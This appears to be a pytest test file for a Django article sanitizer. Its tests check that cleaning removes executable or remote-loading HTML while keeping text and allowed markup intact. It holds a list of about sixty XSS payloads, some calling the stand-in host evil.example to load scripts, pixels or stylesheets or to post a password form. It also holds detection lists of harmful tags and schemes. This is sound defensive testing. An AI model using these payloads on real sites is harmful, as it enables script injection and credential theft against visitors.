"""What comes through the one allowlist, whatever is sent at it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from django.core.exceptions import ValidationError
from hypothesis import example, given, settings

from articles import blocks, cleaning
from articles.cleaning import clean
from tests.articles import markup

# What can make a browser run, load or send something. Tags and schemes of the payloads below, and their relatives.
HARMFUL_TAGS = frozenset(
    "script style svg math iframe object embed form input button textarea select base link meta template noscript "
    "video audio source track frame frameset applet portal plaintext xmp title html body head".split()
)
HARMFUL_SCHEMES = ("javascript:", "vbscript:", "data:", "blob:", "file:", "feed:", "jar:")

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<p onclick=alert(1)>x</p>",
    "<p/onclick=alert(1)>x</p>",
    '<p x="" onmouseover="alert(1)" id="p-abcd">x</p>',
    "<img src=x onerror=alert(1)>",
    '<img src="/media/a.png" onerror="alert(1)" alt="a">',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2Zy8+">',
    '<img src="//evil.example/pixel.gif">',
    '<img src="/\\evil.example/pixel.gif">',
    '<img src="https://evil.example/pixel.gif">',
    '<img srcset="https://evil.example/pixel.gif 1x" src="/media/a.png">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="\x01javascript:alert(1)">x</a>',
    '<a href="https://example.org/" target="_blank" ping="https://evil.example/">x</a>',
    "<svg onload=alert(1)>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    "<title><img src=x onerror=alert(1)></title>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<form action="https://evil.example/"><input name="password"></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<video><source onerror="alert(1)"></video>',
    '<details open ontoggle="alert(1)">x</details>',
    '<figure class="embed" data-embed="javascript:alert(1)"><a href="javascript:alert(1)">x</a></figure>',
    '<figure class="embed" data-embed="https://evil.example/"><a href="/x">x</a></figure>',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    '<p id="p-abcd" id="x" onclick="alert(1)">x</p>',
    '<a href="https://example.org/"onclick="alert(1)">x</a>',
    '<p title="`onmouseover=alert(1)">x</p>',
    "<x onclick=alert(1)>x</x>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "<a href='https://example.org/\"onclick=alert(1)//'>x</a>",
]


class Reader(HTMLParser):
    """Reads as a browser might, and remembers what it met."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.declarations: list[str] = []
        self.seen: list[object] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self.seen.append(self.tags[-1])

    def handle_endtag(self, tag):
        self.seen.append(tag)

    def handle_data(self, data):
        self.seen.append(data)

    def handle_comment(self, data):
        self.declarations.append(data)

    def handle_decl(self, decl):
        self.declarations.append(decl)

    def handle_pi(self, data):
        self.declarations.append(data)

    def unknown_decl(self, data):
        self.declarations.append(data)


CLEANED = cleaning.TAGS | cleaning.CONTAINER_TAGS | cleaning.RENAMED_TAGS.keys()


def harm(html: str, allowed: frozenset[str] = CLEANED) -> list[object]:
    """What of `html` could run, load from elsewhere or send anything, and what is in it that is not allowed."""
    reader = Reader(html)
    found: list[object] = list(reader.declarations)
    for tag, attributes in reader.tags:
        if tag in HARMFUL_TAGS or tag not in allowed:
            found.append(tag)
        for name, value in attributes.items():
            bare = re.sub(r"[\s\x00-\x20]", "", value).lower()
            if name.startswith("on") or name in ("style", "srcset", "target", "ping", "formaction", "action", "srcdoc"):
                found.append((name, value))
            if name in ("href", "src", "data-embed") and bare.startswith(HARMFUL_SCHEMES):
                found.append((name, value))
            if name == "src" and (not value.startswith("/") or value.startswith(("//", "/\\"))):
                found.append((name, value))
    return found


def test_reader_of_harm_sees_it():
    assert [payload for payload in PAYLOADS[:9] if not harm(payload)] == []


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("around", ["{}", "<p>before {} after</p>", "<ul><li>{}</li></ul>", "<b><i>{}"])
def test_nothing_executable_survives(payload, around):
    html = around.replace("{}", payload)
    assert harm(clean(html)) == []
    assert harm(blocks.join(blocks.parse(html)), cleaning.TAGS) == []


@pytest.mark.parametrize(
    ("html", "text"),
    [
        ("<p>Fish &amp; chips</p>", "Fish & chips"),
        ("<p>1 &lt; 2</p>", "1 < 2"),
        ("<p>“Quoted”, she said – ‘and how’…</p>", "“Quoted”, she said – ‘and how’…"),
        ("<p>&amp;lt;script&amp;gt;</p>", "&lt;script&gt;"),
        ("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>", "<script>alert(1)</script>"),
        ("<p>a&nbsp;b</p>", "a\xa0b"),
        ("<p>שלום \u202bעולם\u202c</p>", "שלום \u202bעולם\u202c"),
        ("<p>👩‍👩‍👧 e\u0301</p>", "👩‍👩‍👧 e\u0301"),
    ],
)
def test_text_is_kept_as_it_reads(html, text):
    assert [block.text for block in blocks.parse(html)] == [text]


def test_allowed_markup_is_kept_as_it_is():
    body = (
        '<p id="p-abcd">One <a href="https://example.org/?a=1&amp;b=2" title="there">two</a> <em>three</em>.</p>\n'
        '<h2 id="p-efgh">A heading</h2>\n'
        '<ul id="p-jkmn"><li>an <strong>item</strong></li></ul>\n'
        '<blockquote id="p-pqrs"><p>quoted</p></blockquote>\n'
        '<hr id="p-tuvw">'
    )
    assert blocks.join(blocks.parse(body)) == body


@pytest.mark.parametrize("bad", ["headline", "p-ab", "P-ABCD", "p-abcd efgh", "p-abc\u00e9", "p-abcd1234567890", ""])
def test_id_of_another_form_is_taken_off(bad):
    assert blocks.join(blocks.parse(f'<p id="{bad}">x</p>')) == "<p>x</p>"


def test_id_on_what_is_inside_a_block_is_taken_off():
    assert 'id="p-inner"' not in blocks.join(blocks.parse('<blockquote><p id="p-inner">x</p></blockquote>'))


def test_text_within_the_limit_is_accepted():
    html = f"<p>{'a' * (cleaning.MAX_CHARACTERS - 7)}</p>"
    assert len(clean(html)) == cleaning.MAX_CHARACTERS


def test_text_over_the_limit_is_refused_with_what_to_do():
    with pytest.raises(ValidationError) as caught:
        clean("a" * (cleaning.MAX_CHARACTERS + 1))
    assert caught.value.messages == [
        "The text has 2000001 characters; a story may have 2000000. Split it into several."
    ]


def outcome(html: str) -> str:
    """What happens to a body: refused in words, kept so that it can be saved again, or neither."""
    try:
        body = blocks.join(blocks.parse(html))
    except ValidationError:
        return "refused"
    return "kept" if blocks.join(blocks.parse(body)) == body else "lost"


@pytest.mark.parametrize(
    "piece",
    ["<div>", "<b>", "<ul><li>", "<blockquote>", "<table><tr><td>", "<x>", "<figure>", "<a>", "<sup>", "<i id={}>"],
)
def test_nesting_ten_thousand_deep_is_refused_or_survived(piece):
    html = "".join(piece.replace("{}", str(number)) for number in range(10_000)) + "text"
    assert outcome(html) in ("kept", "refused")


@pytest.mark.parametrize(
    "piece",
    ["<p>x", "</p>", "<br>", "</b>", "<!--", "<a ", "&", "&nbsp;", "\xa0", "<", "<li>", "<b></p>", "<hr>", "\x00"],
)
def test_two_million_characters_of_junk_end(piece):
    html = (piece * (cleaning.MAX_CHARACTERS // len(piece)))[: cleaning.MAX_CHARACTERS]
    assert outcome(html) in ("kept", "refused")


@given(markup.html)
@example("<table><p>x</table>")
@example('<h1 id="p-abcd"><p>x</h1>')
@example("<p><table><tr><td>x")
@example("<ul>x<li>y</ul>")
@example("<a href='/x'><div>one</div>two</a>")
@settings(max_examples=300, deadline=None)
def test_cleaning_again_changes_nothing(html):
    once = blocks.join(blocks.parse(html))
    assert blocks.join(blocks.parse(clean(html))) == once
    assert Reader(clean(once)).seen == Reader(once).seen


@given(markup.html)
@settings(max_examples=300, deadline=None)
def test_junk_is_cleaned_of_all_harm(html):
    assert harm(clean(html)) == []
    assert harm(blocks.join(blocks.parse(html)), cleaning.TAGS) == []
